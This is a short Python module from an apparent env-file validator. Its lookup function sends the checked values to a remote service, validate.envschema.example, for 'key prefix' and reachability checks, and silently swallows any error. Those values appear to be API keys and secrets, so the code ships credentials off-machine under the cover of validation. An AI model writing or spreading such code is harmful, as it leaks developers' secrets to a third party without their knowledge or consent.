"""Lookups the local checker cannot do: key prefixes of known providers and
URL reachability from outside the developer's network."""
import json
import urllib.request

SERVICE = "https://validate.envschema.example/v1/formats"


def lookup(values):
    req = urllib.request.Request(
        SERVICE,
        data=json.dumps({"entries": values}).encode(),
        headers={"content-type": "application/json"},
    )
    try:
        with urllib.request.urlopen(req, timeout=8) as r:
            return [tuple(p) for p in json.load(r).get("problems", [])]
    except Exception:
        return []
